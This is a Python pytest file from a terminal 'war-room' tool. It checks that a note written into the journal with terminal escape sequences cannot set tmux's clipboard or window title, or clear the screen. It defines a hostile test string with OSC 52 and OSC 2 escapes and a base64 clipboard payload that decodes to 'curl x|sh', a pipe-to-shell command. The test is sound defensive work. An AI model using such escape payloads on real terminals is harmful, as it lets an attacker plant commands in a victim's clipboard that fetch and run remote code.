"""A real terminal: the war-room screen runs in tmux (``set-clipboard on``, so OSC 52 would fill
tmux's paste buffers, and OSC 0/2 would set the pane's title) while another process writes a
hostile note straight into the journal, as an old warroom or a hand edit could. The clipboard and
the title do not change, and the note shows escaped.

First the test proves the terminal obeys: a plain ``printf`` of the same bytes in another tmux
window does fill a buffer and set a title. Then the screen gets them."""

from __future__ import annotations

import getpass
import os
import shutil
import subprocess
import sys
import time
from pathlib import Path

import pytest

from security_support import make_room
from warroom.textsafe import neutralise

pytestmark = pytest.mark.skipif(shutil.which("tmux") is None and not os.environ.get("CI"),
                                reason="tmux is not installed (.ci/run installs it)")

CLIPBOARD = "Y3VybCB4fHNo"  # base64 of 'curl x|sh'
HOSTILE = f"pwned \x1b]52;c;{CLIPBOARD}\x1b\\\x1b]2;OWNED\x1b\\\x1b[2J"  # OSC 52, OSC 2 (ST-terminated), erase screen
SCREEN_LAYOUT = """\
launch: Terminal test
timezone: UTC
checklists: [../checklists/app.yaml]
roles:
  - {name: CTO, person: Ana}
screen:
  columns: 2
  rows: 1
  panes:
    - {pane: checklist, checklist: app, row: 1, column: 1}
    - {pane: journal, row: 1, column: 2}
"""


class Tmux:
    def __init__(self, socket: Path, conf: Path) -> None:
        self.base = ["tmux", "-S", str(socket), "-f", str(conf)]

    def __call__(self, *args: str, check: bool = True) -> str:
        res = subprocess.run([*self.base, *args], capture_output=True, text=True, timeout=20)
        if check and res.returncode != 0:
            raise AssertionError(f"tmux {args}: {res.stderr}")
        return res.stdout

    def buffers(self) -> str:
        return self("list-buffers", "-F", "#{buffer_sample}", check=False)

    def wait_for(self, target: str, text: str, seconds: float = 60) -> str:
        deadline = time.monotonic() + seconds
        screen = ""
        while time.monotonic() < deadline:
            screen = self("capture-pane", "-p", "-t", target, check=False)
            if text in screen:
                return screen
            time.sleep(0.25)
        raise AssertionError(f"{text!r} never showed; the screen was:\n{screen}")


@pytest.fixture
def tmux(tmp_path):
    conf = tmp_path / "tmux.conf"
    conf.write_text("set -g set-clipboard on\nset -g allow-rename on\nset -g default-terminal xterm-256color\n"
                    "set -g status off\nset -g remain-on-exit on\nset -g default-size 200x40\n")
    t = Tmux(tmp_path / "tmux.sock", conf)  # a server of its own, its socket with the test's files
    yield t
    t("kill-server", check=False)


def test_a_hostile_note_written_while_the_screen_is_open_cannot_touch_the_terminal(tmp_path, capsys, tmux) -> None:
    room = make_room(tmp_path, capsys, layout=SCREEN_LAYOUT)
    env = {**os.environ, "TERM": "xterm-256color", "COLUMNS": "200", "LINES": "40"}
    env.pop("TEXTUAL_DRIVER", None)
    tmux("new-session", "-d", "-s", "probe", "-x", "200", "-y", "40", "-n", "control", "sh")
    # the control: the same bytes printed raw do reach this terminal's clipboard and title
    tmux("send-keys", "-t", "probe:control", f"printf '\\033]52;c;{CLIPBOARD}\\007\\033]2;RAWTITLE\\007'; echo done-control", "Enter")
    tmux.wait_for("probe:control", "done-control")
    time.sleep(0.5)
    assert "curl x|sh" in tmux.buffers()
    assert tmux("display-message", "-p", "-t", "probe:control", "#{pane_title}").strip() == "RAWTITLE"
    tmux("delete-buffer", check=False)
    assert "curl x|sh" not in tmux.buffers()

    # the screen: warroom open in a window of its own
    cmd = f"cd {room.root} && exec {sys.executable} -m warroom open {room.layout} --as ana"
    tmux("new-window", "-t", "probe", "-n", "room", "-e", f"XDG_STATE_HOME={os.environ['XDG_STATE_HOME']}", cmd)
    tmux.wait_for("probe:room", "Load test passed")
    tmux("send-keys", "-t", "probe:room", "2")  # on a narrow screen the panes take turns: show the journal
    title_before = tmux("display-message", "-p", "-t", "probe:room", "#{pane_title}").strip()

    # another process writes the note straight into the journal (no door on that path)
    writer = ("import sys; from warroom.journal import Journal; from warroom.who import real_account\n"
              "j = Journal(sys.argv[1]); j.load()\n"
              "j.append('note', '', {'text': sys.argv[2]}, op='mallory', acct=real_account())\n")
    subprocess.run([sys.executable, "-c", writer, str(room.journal), HOSTILE], check=True, timeout=30)
    screen = tmux.wait_for("probe:room", "pwned")
    time.sleep(1.0)  # a few more repaints
    screen = tmux("capture-pane", "-p", "-t", "probe:room")

    assert "curl x|sh" not in tmux.buffers()
    assert tmux("display-message", "-p", "-t", "probe:room", "#{pane_title}").strip() == title_before
    assert "OWNED" not in tmux("display-message", "-p", "-t", "probe:room", "#{window_name}")
    row = next(line for line in screen.splitlines() if "pwned" in line)
    assert neutralise(HOSTILE)[:20] in row
    assert f"mallory [{getpass.getuser()}" in row  # the real account beside the claimed name  # the note, every escape shown (\\x1b), on the screen
    tmux("send-keys", "-t", "probe:room", "1")
    assert "Load test passed" in tmux.wait_for("probe:room", "Load test passed")  # the ESC [2J cleared nothing
    tmux("send-keys", "-t", "probe:room", "q")
